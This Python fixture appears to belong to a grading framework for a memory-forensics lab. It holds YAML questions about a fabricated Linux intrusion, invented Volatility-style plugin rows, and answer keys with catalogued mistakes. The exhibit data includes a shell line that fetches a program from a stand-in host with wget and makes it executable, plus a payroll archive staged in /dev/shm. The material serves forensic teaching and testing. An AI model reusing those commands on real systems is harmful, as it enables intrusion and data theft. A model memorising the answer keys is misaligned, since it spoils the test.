"""A miniature of a lab on processes and history: made-up rows in the shape of real plugin output."""

from __future__ import annotations

from functools import cache
from typing import Any

import yaml
from pydantic import TypeAdapter

from training.grading.citations import Citation, Cited, CitedLine
from training.grading.credit import History
from training.grading.judge import Finding, Verdict, judge
from training.grading.keys.syntax import Query
from training.grading.proving import Sealed, seal
from training.grading.question import Question, Questions

LAB = r"""
- id: q1
  type: pid
  text: Which process carries a kernel thread's label but is none?
  points: [10, 7, 5, 2]
  proof:
    - {plugin: linux.psaux, shows: [PID], where: 'PPID != 2 and ARGS starts "[kworker"'}
    - {plugin: linux.pslist, shows: [PID]}
  corroboration:
    - {plugin: linux.proc.Maps, shows: [PID]}
  key:
    truth: truth.actor.memfd.pid
    rows: the(rows("linux.psaux")[ARGS starts "[kworker" and PPID != 2].PID)
  mistakes:
    - code: M-KTHR
      when: rows("linux.psaux")[ARGS starts "[kworker" and PPID = 2].PID
      say: "PPID 2 and no memory map: a genuine kernel thread."
      next: Look for the one whose parent is not kthreadd.
    - {code: M-PPID, when: 'the(rows("linux.psaux")[PID = key].PPID)', say: This is the parent of the process.}
  hints: [{price: 0.2, text: 'Whose parent is not kthreadd?'}]
  after: psaux prints text that the process itself may change.
- id: q2
  type: path
  text: What does the kernel say it runs?
  points: [10, 7]
  proof: [{plugin: linux.malware.process_spoofing, shows: [Exe_Path], where: PID = q1}]
  key:
    truth: '"/memfd:" + truth.actor.memfd.name'
    rows: the(rows("linux.malware.process_spoofing")[PID = q1].Exe_Path)
  mistakes:
    - code: M-COMM
      when: union(rows("linux.psaux")[PID = q1].ARGS, rows("linux.psaux")[PID = q1].COMM)
      say: A process chooses this text itself. Ask for the kernel's file reference.
    - {code: M-SCRIPT, value: /bin/busybox, say: That is the program of other processes.}
- id: q3
  type: chain
  text: Ancestors of the process up to PID 1
  points: [10, 7, 5]
  proof: [{plugin: linux.pslist, shows: [PID]}, {plugin: linux.pstree, shows: [PID]}]
  key:
    truth: truth.actor.memfd.chain
    rows: ancestors(rows("linux.pslist"), q1, "PID", "PPID")
    names: pairs(rows("linux.pslist").COMM, rows("linux.pslist").PID)
  accept: [{when: 'minus(key, list(q1))', say: Accepted without the process itself.}]
  mistakes:
    - {code: M-PPID, when: reverse(key), say: You mixed the directions.}
    - code: M-REMN
      includes: rows("linux.psscan")[EXIT_STATE = "EXIT_DEAD"].PID
      say: This one ended before capture.
- id: q4
  type: set
  element: pid
  text: Shells whose typed lines can be recovered
  points: [10, 7, 5]
  proof: [{plugin: linux.bash, shows: [PID]}]
  corroboration: [{plugin: linux.pslist, shows: [PID], where: COMM = "bash"}]
  key: {truth: truth.bash.with_history, rows: set(rows("linux.bash").PID)}
  mistakes:
    - {code: M-ASH, includes: 'rows("linux.pslist")[COMM = "sh"].PID', say: It keeps no such history., weight: 2}
    - {code: M-NOLINES, includes: 'minus(rows("linux.pslist")[COMM = "bash"].PID, key)', say: It shows no lines.}
- id: q5
  type: string
  text: Full command that fetched the program
  points: [10, 7, 5]
  proof: [{plugin: linux.bash, shows: [Command]}]
  key:
    truth: truth.fetch.command
    rows: the(rows("linux.bash")[Command has truth.fetch.host].Command)
  mistakes:
    - {code: M-LOAD, when: 'rows("linux.bash")[Command starts "wget" and Command != key].Command', say: An older line.}
    - {code: M-PART, when: truth.fetch.url, say: The address alone is a part of the line., credit: 0.5}
- id: q6
  type: timestamp
  tolerance: 1
  text: When was the archive command typed?
  points: [10, 7, 5]
  proof: [{plugin: linux.bash, shows: [CommandTime]}]
  corroboration: [{plugin: linux.pagecache.Files, shows: [ModificationTime]}]
  key:
    truth: truth.archive.time
    rows: the(rows("linux.bash")[Command starts "tar "].CommandTime)
  mistakes:
    - {code: M-HOUR, when: hours(key), say: Off by whole hours. Plugins print UTC.}
    - {code: M-LOAD, when: 'modal(rows("linux.bash").CommandTime)', say: Many lines share this second.}
    - code: M-OFFS
      when: list(key + truth.clock.offset, key - truth.clock.offset)
      say: The question asks the machine's clock.
- id: q7
  type: path
  text: Archive made by it
  points: [10, 7]
  proof:
    - {plugin: linux.bash, where: Command has value and Command starts "tar "}
    - {plugin: linux.pagecache.Files, shows: [FilePath]}
  corroboration:
    - {plugin: linux.bash, where: Command has value and Command starts "tar "}
    - {plugin: linux.pagecache.Files, shows: [FilePath]}
  key: {truth: truth.archive.path, rows: 'the(rows("linux.pagecache.Files")[FilePath starts "/dev/shm/"].FilePath)'}
  mistakes:
    - {code: M-SOURCE, when: truth.archive.source, say: That was read and not written.}
    - {code: M-TRUNC, when: 'list(cut(key, 15), folder(key) + "/" + cut(basename(key), 15))', say: The name is cut.}
- id: q8
  type: count
  text: How many old lines did the first shell load from its file?
  points: [5, 3]
  facts:
    shell: truth.user.shell
    loaded: modal(rows("linux.bash")[PID = truth.user.shell].CommandTime)
  proof: [{plugin: linux.bash, where: PID = shell and CommandTime = loaded}]
  needs: 2
  key:
    truth: truth.user.old_lines
    rows: count(rows("linux.bash")[PID = truth.user.shell and CommandTime = truth.user.started])
  mistakes:
    - {code: M-DUP, when: 'count(rows("linux.bash")[PID = shell])', say: The later ones have their own times.}
    - {code: M-ABSENT, value: "0", say: All share one second.}
- id: q9
  type: choice
  text: Of a process with EXIT_DEAD one may say that it
  options: {ran: ran some time before capture, was: was running, hidden: was hidden, ended: ended at capture}
  points: [5, 2]
  proof: [{plugin: linux.psscan, where: EXIT_STATE = "EXIT_DEAD"}]
  key: {constant: ran}
  mistakes:
    - {code: M-REMN, choice: was, say: The scan found what was left.}
    - {code: M-HIDDEN, choice: hidden, say: Not in the list because it ended.}
- id: q10
  type: sequence
  text: Put these in order
  steps:
    fetch: program fetched
    start: disguised process started
    archive: archive made
    capture: memory captured
    sent: data sent
  points: [10, 7, 5]
  proof:
    - {plugin: linux.bash, step: fetch, where: Command = q5}
    - {plugin: linux.pslist, step: start, where: PID = q1}
    - {plugin: linux.bash, step: archive, where: CommandTime = q6}
    - {material: record, step: capture, where: text has "captured"}
  key:
    truth: >-
      in_order("capture", truth.capture.time, "archive", truth.archive.time, "start", truth.actor.memfd.time,
               "fetch", truth.fetch.time)
    rows: >-
      in_order("fetch", the(rows("linux.bash")[Command = q5].CommandTime),
               "start", the(rows("linux.pslist")[PID = q1]."CREATION TIME"),
               "archive", q6, "capture", truth.capture.time)
  mistakes:
    - code: M-OFFS
      when: list("start", "fetch", "archive", "capture")
      say: A clock offset was used for one source only.
    - {code: M-ACT, includes: '"sent"', say: These sources do not show that.}
- id: q11
  type: endpoint
  text: Remote end of its connection
  points: [10, 7, 5]
  proof: [{plugin: linux.sockstat, shows: [Destination Addr, Destination Port], where: PID = q1}]
  key:
    truth: endpoint(truth.actor.remote.address, truth.actor.remote.port)
    rows: >-
      the(list(endpoint(the(rows("linux.sockstat")[PID = q1]."Destination Addr"),
                        the(rows("linux.sockstat")[PID = q1 and State = "ESTABLISHED"]."Destination Port"))))
  mistakes:
    - code: M-ENDS
      when: >-
        endpoint(the(rows("linux.sockstat")[PID = q1]."Source Addr"),
                 the(rows("linux.sockstat")[PID = q1]."Source Port"))
      say: You named this machine's own end.
    - code: M-LISTEN
      when: >-
        endpoint(the(rows("linux.sockstat")[State = "LISTEN"]."Source Addr"),
                 the(rows("linux.sockstat")[State = "LISTEN"]."Source Port"))
      say: That process waits for connections.
"""

ARCHIVE = "/dev/shm/payroll-march-2026.tgz"  # noqa: S108 - a path in an exhibit
ANY = "0.0.0.0"  # noqa: S104 - a row of a listener
TRUTH: dict[str, Any] = {
    "actor": {
        "memfd": {"pid": 145, "name": "upd", "chain": [1, 120, 145], "time": "2026-03-10T12:09:30Z"},
        "remote": {"address": "203.0.113.66", "port": 8443},
    },
    "bash": {"with_history": [120, 99]},
    "fetch": {
        "command": "wget http://files.example/a/upd -O /tmp/upd",
        "host": "files.example",
        "url": "http://files.example/a/upd",
        "time": "2026-03-10T12:09:02Z",
    },
    "archive": {"time": "2026-03-10T12:10:44Z", "path": ARCHIVE, "source": "/srv/payroll"},
    "clock": {"offset": 95},
    "user": {"shell": 99, "old_lines": 4, "started": "2026-03-10T11:58:01Z"},
    "capture": {"time": "2026-03-10T12:20:00Z"},
}


def _ps(pid: int, ppid: int, comm: str, args: str) -> dict[str, object]:
    return {"PID": pid, "PPID": ppid, "COMM": comm, "ARGS": args}


def _task(pid: int, ppid: int, comm: str, time: str) -> dict[str, object]:
    return {
        "OFFSET (V)": 0x888000000000 + pid,
        "PID": pid,
        "TID": pid,
        "PPID": ppid,
        "COMM": comm,
        "CREATION TIME": time,
    }


def _typed(pid: int, time: str, command: str) -> dict[str, object]:
    return {"PID": pid, "Process": "bash", "CommandTime": f"2026-03-10T{time}+00:00", "Command": command}


def _sock(pid: int, source: tuple[str, str], destination: tuple[str, str], state: str) -> dict[str, object]:
    return {
        "PID": pid,
        "TID": pid,
        "FD": 3,
        "Sock Offset": 7,
        "Source Addr": source[0],
        "Source Port": source[1],
        "Destination Addr": destination[0],
        "Destination Port": destination[1],
        "State": state,
    }


_BOOT = "2026-03-10T11:50:00+00:00"
ROWS: dict[Query, list[dict[str, object]]] = {
    Query("linux.psaux"): [
        _ps(1, 0, "init", "/bin/busybox sh /init"),
        _ps(2, 0, "kthreadd", "[kthreadd]"),
        _ps(17, 2, "kworker/0:1", "[kworker/0:1]"),
        _ps(18, 2, "kworker/1:0", "[kworker/1:0]"),
        _ps(99, 1, "bash", "-bash"),
        _ps(101, 1, "sh", "sh"),
        _ps(120, 1, "bash", "bash"),
        _ps(130, 1, "bash", "bash"),
        _ps(145, 120, "memfd:upd", "[kworker/2:1]"),
        _ps(150, 1, "dropbear", "/usr/sbin/dropbear"),
    ],
    Query("linux.pslist"): [
        _task(1, 0, "init", _BOOT),
        _task(2, 0, "kthreadd", _BOOT),
        _task(17, 2, "kworker/0:1", _BOOT),
        _task(99, 1, "bash", "2026-03-10T11:58:01+00:00"),
        _task(101, 1, "sh", "2026-03-10T11:58:03+00:00"),
        _task(120, 1, "bash", "2026-03-10T12:08:00+00:00"),
        _task(130, 1, "bash", "2026-03-10T12:08:00+00:00"),
        _task(145, 120, "memfd:upd", "2026-03-10T12:09:30+00:00"),
        _task(150, 1, "dropbear", _BOOT),
    ],
    Query("linux.psscan"): [
        {"OFFSET (P)": 1, "PID": 145, "TID": 145, "PPID": 120, "COMM": "memfd:upd", "EXIT_STATE": "TASK_RUNNING"},
        {"OFFSET (P)": 2, "PID": 140, "TID": 140, "PPID": 120, "COMM": "wget", "EXIT_STATE": "EXIT_DEAD"},
    ],
    Query("linux.proc.Maps"): [{"PID": 145, "Process": "memfd:upd", "File Path": "/memfd:upd (deleted)"}],
    Query("linux.malware.process_spoofing"): [
        {"PID": 1, "PPID": 0, "Exe_Path": "/bin/busybox", "Comm": "init", "Exe_Deleted": False},
        {"PID": 145, "PPID": 120, "Exe_Path": "/memfd:upd (deleted)", "Comm": "memfd:upd", "Exe_Deleted": True},
    ],
    Query("linux.bash"): [
        _typed(99, "11:58:01", "ls"),
        _typed(99, "11:58:01", "cd /srv"),
        _typed(99, "11:58:01", "wget http://mirror.example/list"),
        _typed(99, "11:58:01", "less list"),
        _typed(99, "12:01:10", "ledger open"),
        _typed(120, "12:09:02", "wget http://files.example/a/upd -O /tmp/upd"),
        _typed(120, "12:09:20", "chmod +x /tmp/upd"),
        _typed(120, "12:10:44", "tar czf /dev/shm/payroll-march-2026.tgz /srv/payroll"),
    ],
    Query("linux.pagecache.Files"): [
        {"FilePath": "/usr/bin/tar", "ModificationTime": "2025-01-01T00:00:00+00:00", "InodeSize": 3},
        {
            "FilePath": ARCHIVE,
            "ModificationTime": "2026-03-10T12:10:45+00:00",
            "InodeSize": 9,
        },
    ],
    Query("linux.sockstat"): [
        _sock(145, ("192.0.2.17", "60685"), ("203.0.113.66", "8443"), "ESTABLISHED"),
        _sock(150, (ANY, "22"), (ANY, "0"), "LISTEN"),
    ],
}


@cache
def questions() -> tuple[Question, ...]:
    return TypeAdapter(Questions).validate_python(yaml.safe_load(LAB))


def question(name: str) -> Question:
    return next(one for one in questions() if one.id == name)


@cache
def sealed() -> Sealed:
    return seal(questions(), TRUTH, ROWS)


def row(plugin: str, **cells: object) -> dict[str, object]:
    found = [one for one in ROWS[Query(plugin)] if all(one[name] == value for name, value in cells.items())]
    assert len(found) == 1, found
    return found[0]


def cite(plugin: str, **cells: object) -> Cited:
    return Cited(plugin, "complete", row(plugin, **cells))


RECORD = CitedLine("record", 4, "12:20:00 memory captured")
PROOF: dict[str, list[Citation]] = {
    "q1": [cite("linux.psaux", PID=145), cite("linux.proc.Maps", PID=145)],
    "q2": [cite("linux.malware.process_spoofing", PID=145)],
    "q3": [cite("linux.pslist", PID=pid) for pid in (1, 120, 145)],
    "q4": [cite("linux.bash", PID=99, Command="ls"), cite("linux.bash", CommandTime="2026-03-10T12:09:20+00:00"),
           cite("linux.pslist", PID=99)],
    "q5": [cite("linux.bash", CommandTime="2026-03-10T12:09:02+00:00")],
    "q6": [cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), cite("linux.pagecache.Files", InodeSize=9)],
    "q7": [cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), cite("linux.pagecache.Files", InodeSize=9)],
    "q8": [cite("linux.bash", Command="ls"), cite("linux.bash", Command="less list")],
    "q9": [cite("linux.psscan", PID=140)],
    "q10": [cite("linux.bash", CommandTime="2026-03-10T12:09:02+00:00"), cite("linux.pslist", PID=145),
            cite("linux.bash", CommandTime="2026-03-10T12:10:44+00:00"), RECORD],
    "q11": [cite("linux.sockstat", PID=145)],
}  # fmt: skip
RIGHT = {
    "q1": "0x91",
    "q2": "/memfd:upd (deleted)",
    "q3": "145 < 120 < 1",
    "q4": "120 99",
    "q5": " wget http://files.example/a/upd -O /tmp/upd",
    "q6": "2026-03-10 13:10:45 +01:00",
    "q7": ARCHIVE,
    "q8": "٤",
    "q9": "ran some time before capture",
    "q10": "fetch > start > archive > memory captured",
    "q11": "hxxp://203[.]0[.]113[.]66:8443",
}
MISTAKES = [
    ("q1", "17", "M-KTHR"), ("q1", "18", "M-KTHR"), ("q1", "120", "M-PPID"),
    ("q2", "[kworker/2:1]", "M-COMM"), ("q2", "memfd:upd", "M-COMM"), ("q2", "/bin/busybox", "M-SCRIPT"),
    ("q3", "145>120>1", "M-PPID"), ("q3", "1>140>145", "M-REMN"),
    ("q4", "99, 120, 101", "M-ASH"), ("q4", "99, 120, 130", "M-NOLINES"),
    ("q5", "wget http://mirror.example/list", "M-LOAD"), ("q5", "http://files.example/a/upd", "M-PART"),
    ("q6", "2026-03-10 13:10:44", "M-HOUR"), ("q6", "2026-03-10 06:40:45", "M-HOUR"),
    ("q6", "2026-03-10 11:58:01Z", "M-LOAD"),
    ("q6", "2026-03-10 12:12:19Z", "M-OFFS"),
    ("q7", "/srv/payroll", "M-SOURCE"), ("q7", ARCHIVE[:24], "M-TRUNC"),
    ("q8", "5", "M-DUP"), ("q8", "0", "M-ABSENT"),
    ("q9", "was", "M-REMN"), ("q9", "was hidden", "M-HIDDEN"),
    ("q10", "start > fetch > archive > capture", "M-OFFS"), ("q10", "fetch > start > archive > sent", "M-ACT"),
    ("q11", "192.0.2.17:60685", "M-ENDS"), ("q11", "0.0.0.0:22", "M-LISTEN"),
]  # fmt: skip


def submit(name: str, text: str, citations: list[Citation] | None = None, history: History | None = None) -> Verdict:
    cited = PROOF[name] if citations is None else citations
    return judge(question(name), Finding(text), sealed().keys[name], cited, history or History())
